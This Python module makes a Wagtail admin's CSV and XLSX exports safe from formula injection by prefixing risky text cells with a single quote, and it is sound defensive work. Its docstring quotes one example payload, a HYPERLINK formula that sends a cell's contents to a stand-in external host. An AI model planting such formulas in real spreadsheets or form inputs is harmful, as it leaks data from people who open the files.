"""Spreadsheets that cannot run code: every CSV and XLSX the platform produces passes each
cell through `spreadsheet_safe`.

A name typed into a form, such as `=HYPERLINK("https://x.example/?"&A2,"x")`, is a formula
to Excel, LibreOffice and Google Sheets when it starts a cell of a CSV, and it runs when
the school admin opens the file (data sent away, or a command through DDE). OWASP's rule:
a text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is prefixed
with a single quote, so that it is shown as the text it is.

Every export in the admin, ours (the donations report) and Wagtail's own (Site history,
the page and workflow reports, redirects, any viewset with `list_export`), is written by
Wagtail's `SpreadsheetExportMixin`, which hands each cell to `preprocess_field_value` for
CSV and XLSX alike. Wagtail has no hook or setting there, and its reports are not ours to
subclass (the admin's URLs point at its own classes), so `spreadsheet_exports_protect`
wraps that one method once, at start-up (`CoreConfig.ready`): whatever a view's own
preprocessing returns, a text cell comes out neutralised. Numbers, dates and empty cells
keep their type, so amounts still add up in a spreadsheet.
"""

from __future__ import annotations

import functools

from django.utils.functional import Promise
from wagtail.admin.views.mixins import SpreadsheetExportMixin

# What a spreadsheet reads as the start of a formula: OWASP's list, a line feed (a cell that
# starts a new line), and the full-width forms some spreadsheets accept for the same signs.
FORMULA_STARTS = frozenset("=+-@\t\r\n＝＋－＠")
# What may come before them and still leave a formula (spreadsheets skip leading blanks).
SKIPPED = " \u00a0\u3000"
QUOTE = "'"


def spreadsheet_safe(value):
    """The value for a spreadsheet cell: text that a spreadsheet would take for a formula
    gets a leading single quote; anything else (numbers, dates, None) is returned as is."""
    if isinstance(value, Promise):
        value = str(value)
    if not isinstance(value, str) or not value:
        return value
    if value[0] in FORMULA_STARTS or value.lstrip(SKIPPED)[:1] in FORMULA_STARTS:
        return QUOTE + value
    return value


def _safe(preprocess_field_value):
    @functools.wraps(preprocess_field_value)
    def wrapper(self, field, value, export_format):
        return spreadsheet_safe(preprocess_field_value(self, field, value, export_format))

    wrapper.spreadsheet_safe = True
    return wrapper


def spreadsheet_exports_protect() -> None:
    """Makes every Wagtail spreadsheet export (every subclass of SpreadsheetExportMixin)
    write its cells through spreadsheet_safe. Called once, from CoreConfig.ready; calling
    it again changes nothing."""
    current = SpreadsheetExportMixin.preprocess_field_value
    if getattr(current, "spreadsheet_safe", False):
        return
    SpreadsheetExportMixin.preprocess_field_value = _safe(current)
